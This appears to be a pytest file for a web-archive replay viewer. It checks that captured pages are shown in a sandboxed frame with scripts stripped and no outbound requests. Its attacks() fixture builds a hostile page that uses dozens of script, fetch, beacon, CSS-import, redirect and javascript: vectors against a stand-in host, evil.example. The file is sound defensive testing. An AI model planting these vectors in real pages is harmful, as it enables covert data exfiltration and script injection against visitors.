"""Captures shown: in our page, in a frame; in a real browser nothing of them runs or leaves."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from datasette.app import Datasette

from archive.config import Settings
from archive.dossier.opened import is_ours
from archive.model.understood import PageText
from archive.model.vocabulary import Kind
from archive.web.headers import FRAMING_POLICY, REPLAY_POLICY
from pipeline.run.ingest import Archive
from tests import web_samples as samples
from tests.browsing import CHROMIUM, shown
from tests.dossier_samples import faults
from tests.factories import REPORT_URL, at, page
from tests.serving import served

PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
PICTURE = "https://news.example/picture.png"


class Listener(ThreadingHTTPServer):
    """Notes who asks for anything."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                outer.answer(self)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        handler.send_error(404)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


@contextmanager
def listening(server: Listener) -> Iterator[Listener]:
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def attacks(evil: str) -> bytes:
    """A page that tries everything to reach the listener, or to run."""
    return f"""<!doctype html><html><head><title><script>fetch("{evil}/title")</script></title>
    <meta http-equiv="refresh" content="0;url={evil}/refresh"><base href="{evil}/base/">
    <link rel="stylesheet" href="{evil}/style.css"><link rel="prefetch" href="{evil}/prefetch">
    <link rel="preconnect" href="{evil}/"><link rel="icon" href="{evil}/icon">
    <style>@import "{evil}/import"; @font-face {{ font-family: x; src: url("{evil}/font") }}
    p {{ font-family: x; background: url("{evil}/back") }}</style>
    <script>document.title = "ran"; fetch("{evil}/fetch"); new Image().src = "{evil}/new";
    navigator.sendBeacon("{evil}/beacon"); top.location = "{evil}/top";
    location = "{evil}/here"</script><script src="{evil}/script.js"></script></head>
    <body onload="fetch('{evil}/load')"><p>The words of the page.</p>
    <img src="{evil}/img" onerror="fetch('{evil}/error')"><img srcset="{evil}/set 1x">
    <video src="{evil}/video" autoplay poster="{evil}/poster"></video>
    <audio src="{evil}/audio" autoplay></audio><iframe src="{evil}/frame"></iframe>
    <object data="{evil}/object"></object><embed src="{evil}/embed">
    <svg><image href="{evil}/svg"/><script>fetch("{evil}/inner")</script></svg>
    <input autofocus onfocus="fetch('{evil}/focus')"><table background="{evil}/table"></table>
    <details open ontoggle="fetch('{evil}/toggle')">x</details>
    <form action="{evil}/form" id=f></form><script>f.submit()</script>
    <a href="javascript:fetch('{evil}/link')">x</a><img src="{PICTURE}" alt="held">
    <a href="{REPORT_URL}">the report</a><a href="{evil}/elsewhere">not held</a>""".encode()


NUMBER, PDF, DATA = 20, 21, 22


def make(root: Path, evil: str) -> Path:
    """The hostile archive, with a page that attacks, a PDF, and a picture that is held."""
    samples.make(root)
    with Archive.open(root, Settings(), run="20260304-more") as archive:
        one = page(
            NUMBER, kind=Kind.SOURCE, uri_r="https://news.example/denied", captured_at=at(20),
            headers={"content-type": "text/html; charset=utf-8"}, body=attacks(evil),
        )  # fmt: skip
        samples.keep(archive, one, text=PageText("The words of the page."))
        for number, url, kind, body in (
            (PDF, "https://news.example/a.pdf", "application/pdf", b"%PDF-1.4"),
            (DATA, PICTURE, "image/png", PNG),
        ):
            context = replace(one.context, capture_id=number, kind=Kind.FILE, uri_r=url)
            file = replace(
                one, context=context, final_url=url, headers={"content-type": kind}, body=body
            )
            samples.keep(archive, file)
    return root


@pytest.fixture(scope="module")
def datasette(tmp_path_factory: pytest.TempPathFactory) -> Datasette:
    root = make(tmp_path_factory.mktemp("replay") / "data", "http://evil.example")
    return Datasette([str(root / "archive.db")])


async def test_the_frame_has_no_origin_no_script_and_no_network(datasette: Datasette) -> None:
    outer = await datasette.client.get(f"/-/capture/{NUMBER}/replay")
    assert outer.status_code == 200
    assert outer.headers["content-security-policy"] == FRAMING_POLICY
    assert 'sandbox="allow-top-navigation-by-user-activation"' in outer.text
    assert "A copy</strong> of" in outer.text
    inner = await datasette.client.get(f"/-/capture/{NUMBER}/replayed")
    assert inner.headers["content-security-policy"] == REPLAY_POLICY
    assert inner.headers["x-frame-options"] == "SAMEORIGIN"
    for word in ("allow-scripts", "allow-same-origin", "allow-forms", "'self'; base"):
        assert word not in REPLAY_POLICY.replace("frame-ancestors 'self'", "")


async def test_what_is_held_is_shown_and_linked_and_nothing_else(datasette: Datasette) -> None:
    inner = (await datasette.client.get(f"/-/capture/{NUMBER}/replayed")).text
    assert "The words of the page." in inner
    assert 'src="data:image/png;base64,iVBORw0KGgo' in inner
    assert '" target="_top">the report</a>' in inner
    assert 'href="http' not in inner
    assert "<script" not in inner


@pytest.mark.parametrize("number", [PDF, 7, 99])
async def test_what_is_no_page_is_not_shown_in_a_frame(datasette: Datasette, number: int) -> None:
    assert (await datasette.client.get(f"/-/capture/{number}/replayed")).status_code == 404


async def test_a_pdf_comes_as_a_download_only(datasette: Datasette) -> None:
    outer = (await datasette.client.get(f"/-/capture/{PDF}/replay")).text
    assert "comes as a download" in outer
    assert "<iframe" not in outer


async def test_a_picture_is_shown_as_a_picture(datasette: Datasette) -> None:
    outer = (await datasette.client.get(f"/-/capture/{DATA}/replay")).text
    assert f'src="/-/capture/{DATA}/picture"' in outer


async def test_a_dossier_comes_from_the_page_of_its_report(
    datasette: Datasette, tmp_path: Path
) -> None:
    where = f"/-/report/{samples.REPORT_ID}"
    assert f'href="{where}/dossier.wacz"' in (await datasette.client.get(where)).text
    answer = await datasette.client.get(f"{where}/dossier.wacz")
    assert answer.headers["content-disposition"].endswith('"iran-update_2026-03-03.wacz"')
    (tmp_path / "a.wacz").write_bytes(answer.content)
    assert is_ours(tmp_path / "a.wacz")
    assert faults(tmp_path / "a.wacz") == []
    assert (await datasette.client.get("/-/report/none/dossier.wacz")).status_code == 404


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium")
def test_in_a_browser_nothing_leaves_and_nothing_runs(tmp_path: Path) -> None:
    with listening(Listener()) as evil:
        root = make(tmp_path / "data", evil.url)
        with served(root) as (_, address):
            shown(f"{address}-/capture/{NUMBER}/replay", tmp_path / "profile")
    assert evil.asked == []


class Raw(Listener):
    """The attacking page as it is, under our policies: what if our rewriting missed something?"""

    evil = ""

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        is_frame = handler.path == "/inner"
        frame = b'<iframe src="/inner" sandbox="allow-top-navigation-by-user-activation"></iframe>'
        handler.send_response(200)
        handler.send_header("content-type", "text/html")
        handler.send_header(
            "content-security-policy", REPLAY_POLICY if is_frame else FRAMING_POLICY
        )
        handler.end_headers()
        handler.wfile.write(attacks(self.evil) if is_frame else b"<!doctype html>" + frame)


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium")
def test_the_policies_alone_keep_a_browser_from_reaching_out(tmp_path: Path) -> None:
    with listening(Listener()) as evil, listening(Raw()) as ours:
        ours.evil = evil.url
        with pytest.raises(AssertionError):  # the console tells what was refused
            shown(f"{ours.url}/", tmp_path)
    assert "/inner" in ours.asked
    assert evil.asked == []
